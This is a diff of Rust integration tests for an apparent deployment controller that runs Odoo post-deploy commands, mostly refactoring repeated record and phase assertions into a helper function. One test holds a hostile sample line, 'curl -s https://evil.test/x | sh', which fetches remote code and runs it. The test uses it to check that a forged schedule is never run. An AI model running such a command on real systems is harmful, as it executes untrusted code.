@@ -11,7 +11,8 @@
 use crate::odoo_compose::{LANE_SECRET, TENANT_SECRET, World, world};
 use launchplane_api::ownership::{Ownership, ownership};
 use launchplane_api::resources::{
-    CommandOverride, CommandResult, CommandSpec, DeploymentPhase, DeploymentRecord, LaneOdoo, LocalObjectRef,
+    CommandOverride, CommandResult, CommandRun, CommandSpec, DeploymentPhase, DeploymentRecord, LaneOdoo,
+    LocalObjectRef,
 };
 use launchplane_api::verdict::Verdict;
 use launchplane_core::lane::lane_owner;
@@ -35,6 +36,19 @@ async fn odoo_world() -> World {
 
 fn phase(r: &DeploymentRecord) -> Option<DeploymentPhase> {
     r.status.as_ref().and_then(|s| s.phase)
+}
+
+/// The lane's first record, required in `expected` phase, and its post-deploy run.
+async fn first_record(w: &World, expected: DeploymentPhase) -> (DeploymentRecord, CommandRun) {
+    let records = w.records().await;
+    let record = records[0].clone();
+    assert_eq!(phase(&record), Some(expected), "{:?}", record.status);
+    let run = record
+        .status
+        .as_ref()
+        .and_then(|s| s.post_deploy_command.clone())
+        .unwrap_or_default();
+    (record, run)
 }
 
 /// Runs one step at a time, each from a fresh controller, until nothing is left; the steps.
@@ -90,21 +104,7 @@ async fn post_deploy_runs_once_between_deploy_and_verification_across_restarts()
     assert_eq!(w.sim.call_count("schedule.runManually"), 1);
     assert_eq!(w.sim.call_count("schedule.update"), 0);
 
-    let records = w.records().await;
-    let record = &records[0];
-    assert_eq!(
-        phase(record),
-        Some(DeploymentPhase::Succeeded),
-        "{:?}",
-        record.status
-    );
-    let run = record
-        .status
-        .as_ref()
-        .unwrap()
-        .post_deploy_command
-        .clone()
-        .unwrap();
+    let (_, run) = first_record(&w, DeploymentPhase::Succeeded).await;
     assert_eq!(run.result, Some(CommandResult::Succeeded));
     assert!(run.deployment_id.is_some() && run.requested_at.is_some() && run.finished_at.is_some());
 
@@ -156,11 +156,8 @@ async fn a_failed_post_deploy_fails_the_record_and_the_inventory_stays() {
     w.sim
         .script_schedule_runs("*", ScheduleRunScript::fail("ERROR: module sale not found"));
     w.run(40).await;
-    let records = w.records().await;
-    let record = &records[0];
-    assert_eq!(phase(record), Some(DeploymentPhase::Failed));
+    let (record, run) = first_record(&w, DeploymentPhase::Failed).await;
     let status = record.status.as_ref().unwrap();
-    let run = status.post_deploy_command.clone().unwrap();
     assert_eq!(run.result, Some(CommandResult::Failed));
     assert!(
         status
@@ -195,21 +192,7 @@ async fn a_lost_answer_is_settled_from_the_run_history_without_running_again() {
     assert!(steps.contains(&"SettleCommand"), "{steps:?}");
     assert_eq!(w.sim.call_count("schedule.runManually"), 1);
     assert!(w.sim.call_count("deployment.allByType") >= 1);
-    let records = w.records().await;
-    let record = &records[0];
-    assert_eq!(
-        phase(record),
-        Some(DeploymentPhase::Succeeded),
-        "{:?}",
-        record.status
-    );
-    let run = record
-        .status
-        .as_ref()
-        .unwrap()
-        .post_deploy_command
-        .clone()
-        .unwrap();
+    let (_, run) = first_record(&w, DeploymentPhase::Succeeded).await;
     assert_eq!(run.result, Some(CommandResult::Succeeded));
     w.sim.shutdown().await;
 }
@@ -224,15 +207,7 @@ async fn a_run_that_ended_in_error_while_unanswered_fails_the_record() {
             .dropping_connection(),
     );
     w.run(60).await;
-    let records = w.records().await;
-    assert_eq!(phase(&records[0]), Some(DeploymentPhase::Failed));
-    let run = records[0]
-        .status
-        .as_ref()
-        .unwrap()
-        .post_deploy_command
-        .clone()
-        .unwrap();
+    let (_, run) = first_record(&w, DeploymentPhase::Failed).await;
     assert_eq!(run.result, Some(CommandResult::Failed));
     assert_eq!(w.sim.call_count("schedule.runManually"), 1);
     w.sim.shutdown().await;
@@ -244,14 +219,7 @@ async fn a_schedule_with_a_copied_marker_is_never_run_or_changed() {
     let evil = "curl -s https://evil.test/x | sh";
     let forged = w.forge_schedule("post-deploy", "web", evil).await;
     w.run(40).await;
-    let records = w.records().await;
-    let record = &records[0];
-    assert_eq!(
-        phase(record),
-        Some(DeploymentPhase::Failed),
-        "{:?}",
-        record.status
-    );
+    let (record, _) = first_record(&w, DeploymentPhase::Failed).await;
     let message = record
         .status
         .as_ref()
